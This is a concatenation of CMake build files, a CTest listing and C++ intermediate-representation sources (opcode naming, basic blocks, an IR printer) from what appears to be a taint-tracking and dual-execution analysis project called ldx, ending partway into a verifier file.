file(REMOVE_RECURSE
  "libldx_workloads.a"
)
