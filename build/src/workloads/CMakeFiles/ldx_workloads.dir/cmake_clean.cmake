file(REMOVE_RECURSE
  "CMakeFiles/ldx_workloads.dir/conc_workloads.cc.o"
  "CMakeFiles/ldx_workloads.dir/conc_workloads.cc.o.d"
  "CMakeFiles/ldx_workloads.dir/netsys_workloads.cc.o"
  "CMakeFiles/ldx_workloads.dir/netsys_workloads.cc.o.d"
  "CMakeFiles/ldx_workloads.dir/registry.cc.o"
  "CMakeFiles/ldx_workloads.dir/registry.cc.o.d"
  "CMakeFiles/ldx_workloads.dir/spec_workloads.cc.o"
  "CMakeFiles/ldx_workloads.dir/spec_workloads.cc.o.d"
  "CMakeFiles/ldx_workloads.dir/vuln_workloads.cc.o"
  "CMakeFiles/ldx_workloads.dir/vuln_workloads.cc.o.d"
  "libldx_workloads.a"
  "libldx_workloads.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ldx_workloads.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
