# Empty dependencies file for ldx_workloads.
# This may be replaced when dependencies are built.
