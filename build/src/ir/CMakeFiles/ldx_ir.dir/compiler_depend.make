# Empty compiler generated dependencies file for ldx_ir.
# This may be replaced when dependencies are built.
