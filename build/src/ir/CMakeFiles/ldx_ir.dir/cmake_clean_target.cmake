file(REMOVE_RECURSE
  "libldx_ir.a"
)
