file(REMOVE_RECURSE
  "CMakeFiles/ldx_ir.dir/builder.cc.o"
  "CMakeFiles/ldx_ir.dir/builder.cc.o.d"
  "CMakeFiles/ldx_ir.dir/ir.cc.o"
  "CMakeFiles/ldx_ir.dir/ir.cc.o.d"
  "CMakeFiles/ldx_ir.dir/printer.cc.o"
  "CMakeFiles/ldx_ir.dir/printer.cc.o.d"
  "CMakeFiles/ldx_ir.dir/verifier.cc.o"
  "CMakeFiles/ldx_ir.dir/verifier.cc.o.d"
  "libldx_ir.a"
  "libldx_ir.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ldx_ir.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
