file(REMOVE_RECURSE
  "libldx_lang.a"
)
