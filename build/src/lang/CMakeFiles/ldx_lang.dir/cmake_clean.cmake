file(REMOVE_RECURSE
  "CMakeFiles/ldx_lang.dir/compiler.cc.o"
  "CMakeFiles/ldx_lang.dir/compiler.cc.o.d"
  "CMakeFiles/ldx_lang.dir/lexer.cc.o"
  "CMakeFiles/ldx_lang.dir/lexer.cc.o.d"
  "CMakeFiles/ldx_lang.dir/parser.cc.o"
  "CMakeFiles/ldx_lang.dir/parser.cc.o.d"
  "libldx_lang.a"
  "libldx_lang.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ldx_lang.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
