# Empty compiler generated dependencies file for ldx_lang.
# This may be replaced when dependencies are built.
