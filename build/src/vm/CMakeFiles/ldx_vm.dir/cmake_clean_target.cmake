file(REMOVE_RECURSE
  "libldx_vm.a"
)
