file(REMOVE_RECURSE
  "CMakeFiles/ldx_vm.dir/machine.cc.o"
  "CMakeFiles/ldx_vm.dir/machine.cc.o.d"
  "CMakeFiles/ldx_vm.dir/memory.cc.o"
  "CMakeFiles/ldx_vm.dir/memory.cc.o.d"
  "libldx_vm.a"
  "libldx_vm.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ldx_vm.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
