# Empty compiler generated dependencies file for ldx_vm.
# This may be replaced when dependencies are built.
