file(REMOVE_RECURSE
  "CMakeFiles/ldx_analysis.dir/callgraph.cc.o"
  "CMakeFiles/ldx_analysis.dir/callgraph.cc.o.d"
  "CMakeFiles/ldx_analysis.dir/dominators.cc.o"
  "CMakeFiles/ldx_analysis.dir/dominators.cc.o.d"
  "CMakeFiles/ldx_analysis.dir/graph.cc.o"
  "CMakeFiles/ldx_analysis.dir/graph.cc.o.d"
  "CMakeFiles/ldx_analysis.dir/loops.cc.o"
  "CMakeFiles/ldx_analysis.dir/loops.cc.o.d"
  "libldx_analysis.a"
  "libldx_analysis.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ldx_analysis.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
