# Empty compiler generated dependencies file for ldx_analysis.
# This may be replaced when dependencies are built.
