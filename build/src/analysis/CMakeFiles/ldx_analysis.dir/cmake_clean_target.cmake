file(REMOVE_RECURSE
  "libldx_analysis.a"
)
