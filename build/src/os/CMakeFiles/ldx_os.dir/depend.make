# Empty dependencies file for ldx_os.
# This may be replaced when dependencies are built.
