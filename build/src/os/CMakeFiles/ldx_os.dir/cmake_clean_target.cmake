file(REMOVE_RECURSE
  "libldx_os.a"
)
