file(REMOVE_RECURSE
  "CMakeFiles/ldx_os.dir/kernel.cc.o"
  "CMakeFiles/ldx_os.dir/kernel.cc.o.d"
  "CMakeFiles/ldx_os.dir/sysno.cc.o"
  "CMakeFiles/ldx_os.dir/sysno.cc.o.d"
  "CMakeFiles/ldx_os.dir/vfs.cc.o"
  "CMakeFiles/ldx_os.dir/vfs.cc.o.d"
  "libldx_os.a"
  "libldx_os.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ldx_os.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
