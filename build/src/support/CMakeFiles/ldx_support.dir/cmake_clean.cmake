file(REMOVE_RECURSE
  "CMakeFiles/ldx_support.dir/diag.cc.o"
  "CMakeFiles/ldx_support.dir/diag.cc.o.d"
  "CMakeFiles/ldx_support.dir/strings.cc.o"
  "CMakeFiles/ldx_support.dir/strings.cc.o.d"
  "CMakeFiles/ldx_support.dir/table.cc.o"
  "CMakeFiles/ldx_support.dir/table.cc.o.d"
  "libldx_support.a"
  "libldx_support.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ldx_support.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
