file(REMOVE_RECURSE
  "libldx_support.a"
)
