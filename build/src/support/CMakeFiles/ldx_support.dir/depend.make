# Empty dependencies file for ldx_support.
# This may be replaced when dependencies are built.
