# Empty compiler generated dependencies file for ldx_support.
# This may be replaced when dependencies are built.
