# Empty dependencies file for ldx_core.
# This may be replaced when dependencies are built.
