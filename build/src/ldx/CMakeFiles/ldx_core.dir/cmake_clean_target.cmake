file(REMOVE_RECURSE
  "libldx_core.a"
)
