file(REMOVE_RECURSE
  "CMakeFiles/ldx_core.dir/controller.cc.o"
  "CMakeFiles/ldx_core.dir/controller.cc.o.d"
  "CMakeFiles/ldx_core.dir/engine.cc.o"
  "CMakeFiles/ldx_core.dir/engine.cc.o.d"
  "CMakeFiles/ldx_core.dir/mutation.cc.o"
  "CMakeFiles/ldx_core.dir/mutation.cc.o.d"
  "CMakeFiles/ldx_core.dir/report.cc.o"
  "CMakeFiles/ldx_core.dir/report.cc.o.d"
  "libldx_core.a"
  "libldx_core.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ldx_core.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
