file(REMOVE_RECURSE
  "libldx_taint.a"
)
