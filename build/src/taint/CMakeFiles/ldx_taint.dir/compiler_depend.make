# Empty compiler generated dependencies file for ldx_taint.
# This may be replaced when dependencies are built.
