file(REMOVE_RECURSE
  "CMakeFiles/ldx_taint.dir/indexing.cc.o"
  "CMakeFiles/ldx_taint.dir/indexing.cc.o.d"
  "CMakeFiles/ldx_taint.dir/tightlip.cc.o"
  "CMakeFiles/ldx_taint.dir/tightlip.cc.o.d"
  "CMakeFiles/ldx_taint.dir/tracker.cc.o"
  "CMakeFiles/ldx_taint.dir/tracker.cc.o.d"
  "libldx_taint.a"
  "libldx_taint.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ldx_taint.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
