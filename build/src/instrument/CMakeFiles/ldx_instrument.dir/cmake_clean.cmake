file(REMOVE_RECURSE
  "CMakeFiles/ldx_instrument.dir/instrument.cc.o"
  "CMakeFiles/ldx_instrument.dir/instrument.cc.o.d"
  "libldx_instrument.a"
  "libldx_instrument.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ldx_instrument.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
