# Empty compiler generated dependencies file for ldx_instrument.
# This may be replaced when dependencies are built.
