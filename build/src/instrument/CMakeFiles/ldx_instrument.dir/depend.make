# Empty dependencies file for ldx_instrument.
# This may be replaced when dependencies are built.
