file(REMOVE_RECURSE
  "libldx_instrument.a"
)
