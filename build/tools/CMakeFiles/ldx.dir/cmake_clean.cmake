file(REMOVE_RECURSE
  "CMakeFiles/ldx.dir/ldx_cli.cc.o"
  "CMakeFiles/ldx.dir/ldx_cli.cc.o.d"
  "ldx"
  "ldx.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ldx.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
