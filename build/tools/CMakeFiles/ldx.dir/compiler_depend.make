# Empty compiler generated dependencies file for ldx.
# This may be replaced when dependencies are built.
