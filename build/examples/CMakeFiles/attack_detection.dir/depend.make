# Empty dependencies file for attack_detection.
# This may be replaced when dependencies are built.
