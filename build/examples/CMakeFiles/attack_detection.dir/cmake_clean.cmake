file(REMOVE_RECURSE
  "CMakeFiles/attack_detection.dir/attack_detection.cpp.o"
  "CMakeFiles/attack_detection.dir/attack_detection.cpp.o.d"
  "attack_detection"
  "attack_detection.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/attack_detection.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
