# Empty dependencies file for loop_alignment.
# This may be replaced when dependencies are built.
