file(REMOVE_RECURSE
  "CMakeFiles/loop_alignment.dir/loop_alignment.cpp.o"
  "CMakeFiles/loop_alignment.dir/loop_alignment.cpp.o.d"
  "loop_alignment"
  "loop_alignment.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/loop_alignment.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
