# Empty dependencies file for taint_compare.
# This may be replaced when dependencies are built.
