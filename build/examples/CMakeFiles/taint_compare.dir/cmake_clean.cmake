file(REMOVE_RECURSE
  "CMakeFiles/taint_compare.dir/taint_compare.cpp.o"
  "CMakeFiles/taint_compare.dir/taint_compare.cpp.o.d"
  "taint_compare"
  "taint_compare.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/taint_compare.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
