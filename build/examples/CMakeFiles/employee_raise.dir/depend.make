# Empty dependencies file for employee_raise.
# This may be replaced when dependencies are built.
