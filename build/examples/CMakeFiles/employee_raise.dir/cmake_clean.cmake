file(REMOVE_RECURSE
  "CMakeFiles/employee_raise.dir/employee_raise.cpp.o"
  "CMakeFiles/employee_raise.dir/employee_raise.cpp.o.d"
  "employee_raise"
  "employee_raise.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/employee_raise.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
