# Empty compiler generated dependencies file for ablation_mutation.
# This may be replaced when dependencies are built.
