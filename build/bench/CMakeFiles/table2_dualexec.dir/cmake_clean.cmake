file(REMOVE_RECURSE
  "CMakeFiles/table2_dualexec.dir/table2_dualexec.cc.o"
  "CMakeFiles/table2_dualexec.dir/table2_dualexec.cc.o.d"
  "table2_dualexec"
  "table2_dualexec.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table2_dualexec.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
