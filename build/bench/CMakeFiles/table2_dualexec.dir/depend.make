# Empty dependencies file for table2_dualexec.
# This may be replaced when dependencies are built.
