# Empty compiler generated dependencies file for table4_concurrency.
# This may be replaced when dependencies are built.
