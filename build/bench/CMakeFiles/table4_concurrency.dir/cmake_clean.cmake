file(REMOVE_RECURSE
  "CMakeFiles/table4_concurrency.dir/table4_concurrency.cc.o"
  "CMakeFiles/table4_concurrency.dir/table4_concurrency.cc.o.d"
  "table4_concurrency"
  "table4_concurrency.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table4_concurrency.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
