file(REMOVE_RECURSE
  "CMakeFiles/table3_causality.dir/table3_causality.cc.o"
  "CMakeFiles/table3_causality.dir/table3_causality.cc.o.d"
  "table3_causality"
  "table3_causality.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table3_causality.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
