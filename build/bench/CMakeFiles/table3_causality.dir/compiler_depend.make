# Empty compiler generated dependencies file for table3_causality.
# This may be replaced when dependencies are built.
