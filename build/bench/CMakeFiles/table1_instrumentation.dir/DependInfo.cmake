
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/bench/table1_instrumentation.cc" "bench/CMakeFiles/table1_instrumentation.dir/table1_instrumentation.cc.o" "gcc" "bench/CMakeFiles/table1_instrumentation.dir/table1_instrumentation.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/workloads/CMakeFiles/ldx_workloads.dir/DependInfo.cmake"
  "/root/repo/build/src/taint/CMakeFiles/ldx_taint.dir/DependInfo.cmake"
  "/root/repo/build/src/ldx/CMakeFiles/ldx_core.dir/DependInfo.cmake"
  "/root/repo/build/src/instrument/CMakeFiles/ldx_instrument.dir/DependInfo.cmake"
  "/root/repo/build/src/lang/CMakeFiles/ldx_lang.dir/DependInfo.cmake"
  "/root/repo/build/src/vm/CMakeFiles/ldx_vm.dir/DependInfo.cmake"
  "/root/repo/build/src/analysis/CMakeFiles/ldx_analysis.dir/DependInfo.cmake"
  "/root/repo/build/src/os/CMakeFiles/ldx_os.dir/DependInfo.cmake"
  "/root/repo/build/src/ir/CMakeFiles/ldx_ir.dir/DependInfo.cmake"
  "/root/repo/build/src/support/CMakeFiles/ldx_support.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
