file(REMOVE_RECURSE
  "CMakeFiles/table1_instrumentation.dir/table1_instrumentation.cc.o"
  "CMakeFiles/table1_instrumentation.dir/table1_instrumentation.cc.o.d"
  "table1_instrumentation"
  "table1_instrumentation.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table1_instrumentation.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
