# CMake generated Testfile for 
# Source directory: /root/repo/tests
# Build directory: /root/repo/build/tests
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
include("/root/repo/build/tests/ldx_tests[1]_include.cmake")
add_test(cli_corpus "/root/repo/build/tools/ldx" "corpus")
set_tests_properties(cli_corpus PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/tests/CMakeLists.txt;30;add_test;/root/repo/tests/CMakeLists.txt;0;")
add_test(cli_usage "/root/repo/build/tools/ldx")
set_tests_properties(cli_usage PROPERTIES  WILL_FAIL "TRUE" _BACKTRACE_TRIPLES "/root/repo/tests/CMakeLists.txt;31;add_test;/root/repo/tests/CMakeLists.txt;0;")
add_test(cli_run "/root/repo/build/tools/ldx" "run" "/root/repo/build/tests/cli_demo.mc" "--env" "SECRET=abc")
set_tests_properties(cli_run PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/tests/CMakeLists.txt;45;add_test;/root/repo/tests/CMakeLists.txt;0;")
add_test(cli_dual_leak "/root/repo/build/tools/ldx" "dual" "/root/repo/build/tests/cli_demo.mc" "--env" "SECRET=abc" "--source-env" "SECRET")
set_tests_properties(cli_dual_leak PROPERTIES  WILL_FAIL "TRUE" _BACKTRACE_TRIPLES "/root/repo/tests/CMakeLists.txt;47;add_test;/root/repo/tests/CMakeLists.txt;0;")
add_test(cli_dump "/root/repo/build/tools/ldx" "dump" "/root/repo/build/tests/cli_demo.mc")
set_tests_properties(cli_dump PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/tests/CMakeLists.txt;51;add_test;/root/repo/tests/CMakeLists.txt;0;")
add_test(cli_bench "/root/repo/build/tools/ldx" "bench" "401.bzip2")
set_tests_properties(cli_bench PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/tests/CMakeLists.txt;53;add_test;/root/repo/tests/CMakeLists.txt;0;")
