
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/tests/analysis_test.cc" "tests/CMakeFiles/ldx_tests.dir/analysis_test.cc.o" "gcc" "tests/CMakeFiles/ldx_tests.dir/analysis_test.cc.o.d"
  "/root/repo/tests/dual_test.cc" "tests/CMakeFiles/ldx_tests.dir/dual_test.cc.o" "gcc" "tests/CMakeFiles/ldx_tests.dir/dual_test.cc.o.d"
  "/root/repo/tests/engine_test.cc" "tests/CMakeFiles/ldx_tests.dir/engine_test.cc.o" "gcc" "tests/CMakeFiles/ldx_tests.dir/engine_test.cc.o.d"
  "/root/repo/tests/instrument_edge_test.cc" "tests/CMakeFiles/ldx_tests.dir/instrument_edge_test.cc.o" "gcc" "tests/CMakeFiles/ldx_tests.dir/instrument_edge_test.cc.o.d"
  "/root/repo/tests/instrument_test.cc" "tests/CMakeFiles/ldx_tests.dir/instrument_test.cc.o" "gcc" "tests/CMakeFiles/ldx_tests.dir/instrument_test.cc.o.d"
  "/root/repo/tests/lang_test.cc" "tests/CMakeFiles/ldx_tests.dir/lang_test.cc.o" "gcc" "tests/CMakeFiles/ldx_tests.dir/lang_test.cc.o.d"
  "/root/repo/tests/os_test.cc" "tests/CMakeFiles/ldx_tests.dir/os_test.cc.o" "gcc" "tests/CMakeFiles/ldx_tests.dir/os_test.cc.o.d"
  "/root/repo/tests/parser_test.cc" "tests/CMakeFiles/ldx_tests.dir/parser_test.cc.o" "gcc" "tests/CMakeFiles/ldx_tests.dir/parser_test.cc.o.d"
  "/root/repo/tests/property_test.cc" "tests/CMakeFiles/ldx_tests.dir/property_test.cc.o" "gcc" "tests/CMakeFiles/ldx_tests.dir/property_test.cc.o.d"
  "/root/repo/tests/protocol_test.cc" "tests/CMakeFiles/ldx_tests.dir/protocol_test.cc.o" "gcc" "tests/CMakeFiles/ldx_tests.dir/protocol_test.cc.o.d"
  "/root/repo/tests/stress_test.cc" "tests/CMakeFiles/ldx_tests.dir/stress_test.cc.o" "gcc" "tests/CMakeFiles/ldx_tests.dir/stress_test.cc.o.d"
  "/root/repo/tests/subsumption_test.cc" "tests/CMakeFiles/ldx_tests.dir/subsumption_test.cc.o" "gcc" "tests/CMakeFiles/ldx_tests.dir/subsumption_test.cc.o.d"
  "/root/repo/tests/support_test.cc" "tests/CMakeFiles/ldx_tests.dir/support_test.cc.o" "gcc" "tests/CMakeFiles/ldx_tests.dir/support_test.cc.o.d"
  "/root/repo/tests/taint_test.cc" "tests/CMakeFiles/ldx_tests.dir/taint_test.cc.o" "gcc" "tests/CMakeFiles/ldx_tests.dir/taint_test.cc.o.d"
  "/root/repo/tests/vm_test.cc" "tests/CMakeFiles/ldx_tests.dir/vm_test.cc.o" "gcc" "tests/CMakeFiles/ldx_tests.dir/vm_test.cc.o.d"
  "/root/repo/tests/workloads_test.cc" "tests/CMakeFiles/ldx_tests.dir/workloads_test.cc.o" "gcc" "tests/CMakeFiles/ldx_tests.dir/workloads_test.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/workloads/CMakeFiles/ldx_workloads.dir/DependInfo.cmake"
  "/root/repo/build/src/taint/CMakeFiles/ldx_taint.dir/DependInfo.cmake"
  "/root/repo/build/src/ldx/CMakeFiles/ldx_core.dir/DependInfo.cmake"
  "/root/repo/build/src/instrument/CMakeFiles/ldx_instrument.dir/DependInfo.cmake"
  "/root/repo/build/src/lang/CMakeFiles/ldx_lang.dir/DependInfo.cmake"
  "/root/repo/build/src/vm/CMakeFiles/ldx_vm.dir/DependInfo.cmake"
  "/root/repo/build/src/os/CMakeFiles/ldx_os.dir/DependInfo.cmake"
  "/root/repo/build/src/analysis/CMakeFiles/ldx_analysis.dir/DependInfo.cmake"
  "/root/repo/build/src/ir/CMakeFiles/ldx_ir.dir/DependInfo.cmake"
  "/root/repo/build/src/support/CMakeFiles/ldx_support.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
