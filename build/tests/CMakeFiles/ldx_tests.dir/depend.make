# Empty dependencies file for ldx_tests.
# This may be replaced when dependencies are built.
