#include "ir/ir.h"

#include "support/diag.h"

namespace ldx::ir {

bool
isTerminator(Opcode op)
{
    return op == Opcode::Br || op == Opcode::CondBr || op == Opcode::Ret;
}

const char *
opcodeName(Opcode op)
{
    switch (op) {
      case Opcode::Const: return "const";
      case Opcode::Move: return "move";
      case Opcode::Add: return "add";
      case Opcode::Sub: return "sub";
      case Opcode::Mul: return "mul";
      case Opcode::Div: return "div";
      case Opcode::Rem: return "rem";
      case Opcode::And: return "and";
      case Opcode::Or: return "or";
      case Opcode::Xor: return "xor";
      case Opcode::Shl: return "shl";
      case Opcode::Shr: return "shr";
      case Opcode::Neg: return "neg";
      case Opcode::Not: return "not";
      case Opcode::CmpEq: return "cmpeq";
      case Opcode::CmpNe: return "cmpne";
      case Opcode::CmpLt: return "cmplt";
      case Opcode::CmpLe: return "cmple";
      case Opcode::CmpGt: return "cmpgt";
      case Opcode::CmpGe: return "cmpge";
      case Opcode::Load: return "load";
      case Opcode::Store: return "store";
      case Opcode::Alloca: return "alloca";
      case Opcode::GlobalAddr: return "gaddr";
      case Opcode::Call: return "call";
      case Opcode::ICall: return "icall";
      case Opcode::FnAddr: return "fnaddr";
      case Opcode::LibCall: return "libcall";
      case Opcode::Syscall: return "syscall";
      case Opcode::Br: return "br";
      case Opcode::CondBr: return "condbr";
      case Opcode::Ret: return "ret";
      case Opcode::CntAdd: return "cnt.add";
      case Opcode::SyncBarrier: return "cnt.sync";
      case Opcode::CntPush: return "cnt.push";
      case Opcode::CntPop: return "cnt.pop";
    }
    return "?";
}

const char *
libRoutineName(LibRoutine r)
{
    switch (r) {
      case LibRoutine::Memcpy: return "memcpy";
      case LibRoutine::Memset: return "memset";
      case LibRoutine::Strlen: return "strlen";
      case LibRoutine::Strcmp: return "strcmp";
      case LibRoutine::Strcpy: return "strcpy";
      case LibRoutine::Strcat: return "strcat";
      case LibRoutine::Atoi: return "atoi";
      case LibRoutine::Itoa: return "itoa";
      case LibRoutine::Malloc: return "malloc";
      case LibRoutine::Free: return "free";
    }
    return "?";
}

const Instr &
BasicBlock::terminator() const
{
    checkInvariant(!instrs_.empty(), "terminator() on empty block");
    return instrs_.back();
}

Instr &
BasicBlock::terminator()
{
    checkInvariant(!instrs_.empty(), "terminator() on empty block");
    return instrs_.back();
}

std::vector<int>
BasicBlock::successors() const
{
    if (instrs_.empty() || !instrs_.back().isTerminator())
        return {};
    const Instr &t = instrs_.back();
    switch (t.op) {
      case Opcode::Br:
        return {t.target0};
      case Opcode::CondBr:
        if (t.target0 == t.target1)
            return {t.target0};
        return {t.target0, t.target1};
      default:
        return {};
    }
}

bool
BasicBlock::isTerminated() const
{
    return !instrs_.empty() && instrs_.back().isTerminator();
}

BasicBlock &
Function::newBlock()
{
    int id = static_cast<int>(blocks_.size());
    blocks_.push_back(std::make_unique<BasicBlock>(id));
    return *blocks_.back();
}

std::vector<std::vector<int>>
Function::predecessors() const
{
    std::vector<std::vector<int>> preds(blocks_.size());
    for (const auto &bb : blocks_) {
        for (int succ : bb->successors())
            preds[succ].push_back(bb->id());
    }
    return preds;
}

Function &
Module::addFunction(const std::string &name, int num_params)
{
    if (findFunction(name))
        fatal("duplicate function: " + name);
    int id = static_cast<int>(functions_.size());
    functions_.push_back(std::make_unique<Function>(id, name, num_params));
    functions_.back()->reserveRegs(num_params);
    return *functions_.back();
}

Function *
Module::findFunction(const std::string &name)
{
    for (auto &f : functions_) {
        if (f->name() == name)
            return f.get();
    }
    return nullptr;
}

const Function *
Module::findFunction(const std::string &name) const
{
    for (const auto &f : functions_) {
        if (f->name() == name)
            return f.get();
    }
    return nullptr;
}

int
Module::addGlobal(const std::string &name, std::int64_t size,
                  std::string init)
{
    if (findGlobal(name) >= 0)
        fatal("duplicate global: " + name);
    Global g;
    g.name = name;
    g.size = size;
    g.init = std::move(init);
    globals_.push_back(std::move(g));
    return static_cast<int>(globals_.size()) - 1;
}

int
Module::findGlobal(const std::string &name) const
{
    for (std::size_t i = 0; i < globals_.size(); ++i) {
        if (globals_[i].name == name)
            return static_cast<int>(i);
    }
    return -1;
}

int
Module::mainFunction() const
{
    const Function *f = findFunction("main");
    return f ? f->id() : -1;
}

} // namespace ldx::ir
