#include "ir/printer.h"

#include <sstream>

namespace ldx::ir {

namespace {

std::string
formatOperand(const Operand &o)
{
    switch (o.kind) {
      case Operand::Kind::Reg:
        return "r" + std::to_string(o.reg);
      case Operand::Kind::Imm:
        return std::to_string(o.imm);
      case Operand::Kind::None:
        return "_";
    }
    return "?";
}

std::string
formatArgs(const std::vector<Operand> &args)
{
    std::string out = "(";
    for (std::size_t i = 0; i < args.size(); ++i) {
        if (i)
            out += ", ";
        out += formatOperand(args[i]);
    }
    return out + ")";
}

} // namespace

std::string
formatInstr(const Module &m, const Instr &instr)
{
    std::ostringstream os;
    auto dst = [&]() -> std::string {
        return instr.dst >= 0 ? "r" + std::to_string(instr.dst) + " = " : "";
    };
    switch (instr.op) {
      case Opcode::Const:
        os << dst() << "const " << instr.imm;
        break;
      case Opcode::Move:
      case Opcode::Neg:
      case Opcode::Not:
        os << dst() << opcodeName(instr.op) << ' '
           << formatOperand(instr.a);
        break;
      case Opcode::Add: case Opcode::Sub: case Opcode::Mul:
      case Opcode::Div: case Opcode::Rem: case Opcode::And:
      case Opcode::Or: case Opcode::Xor: case Opcode::Shl:
      case Opcode::Shr: case Opcode::CmpEq: case Opcode::CmpNe:
      case Opcode::CmpLt: case Opcode::CmpLe: case Opcode::CmpGt:
      case Opcode::CmpGe:
        os << dst() << opcodeName(instr.op) << ' '
           << formatOperand(instr.a) << ", " << formatOperand(instr.b);
        break;
      case Opcode::Load:
        os << dst() << "load." << instr.size << " ["
           << formatOperand(instr.a) << ']';
        break;
      case Opcode::Store:
        os << "store." << instr.size << " [" << formatOperand(instr.a)
           << "], " << formatOperand(instr.b);
        break;
      case Opcode::Alloca:
        os << dst() << "alloca " << instr.imm;
        break;
      case Opcode::GlobalAddr:
        os << dst() << "gaddr @"
           << m.global(static_cast<int>(instr.imm)).name;
        break;
      case Opcode::Call:
        os << dst() << "call @" << m.function(instr.callee).name()
           << formatArgs(instr.args);
        break;
      case Opcode::ICall:
        os << dst() << "icall *" << formatOperand(instr.a)
           << formatArgs(instr.args);
        break;
      case Opcode::FnAddr:
        os << dst() << "fnaddr @" << m.function(instr.callee).name();
        break;
      case Opcode::LibCall:
        os << dst() << "lib."
           << libRoutineName(static_cast<LibRoutine>(instr.imm))
           << formatArgs(instr.args);
        break;
      case Opcode::Syscall:
        os << dst() << "syscall #" << instr.imm << formatArgs(instr.args);
        break;
      case Opcode::Br:
        os << "br bb" << instr.target0;
        break;
      case Opcode::CondBr:
        os << "condbr " << formatOperand(instr.a) << ", bb"
           << instr.target0 << ", bb" << instr.target1;
        break;
      case Opcode::Ret:
        os << "ret";
        if (!instr.a.isNone())
            os << ' ' << formatOperand(instr.a);
        break;
      case Opcode::CntAdd:
        os << "cnt += " << instr.imm;
        break;
      case Opcode::SyncBarrier:
        os << "sync site#" << instr.imm << ", cnt += " << instr.a.imm;
        break;
      case Opcode::CntPush:
        os << "cnt.push";
        break;
      case Opcode::CntPop:
        os << "cnt.pop";
        break;
    }
    return os.str();
}

void
printFunction(std::ostream &os, const Module &m, const Function &fn)
{
    os << "func @" << fn.name() << "(params=" << fn.numParams()
       << ", regs=" << fn.numRegs() << ") {\n";
    for (std::size_t b = 0; b < fn.numBlocks(); ++b) {
        const BasicBlock &bb = fn.block(static_cast<int>(b));
        os << "  bb" << bb.id() << ":\n";
        for (const Instr &instr : bb.instrs())
            os << "    " << formatInstr(m, instr) << '\n';
    }
    os << "}\n";
}

void
printModule(std::ostream &os, const Module &m)
{
    for (std::size_t g = 0; g < m.numGlobals(); ++g) {
        const Global &gl = m.global(static_cast<int>(g));
        os << "global @" << gl.name << " : " << gl.size << " bytes\n";
    }
    for (std::size_t f = 0; f < m.numFunctions(); ++f)
        printFunction(os, m, m.function(static_cast<int>(f)));
}

std::string
moduleToString(const Module &m)
{
    std::ostringstream os;
    printModule(os, m);
    return os.str();
}

} // namespace ldx::ir
