#include "ir/verifier.h"

#include "support/diag.h"
#include "support/strings.h"

namespace ldx::ir {

namespace {

void
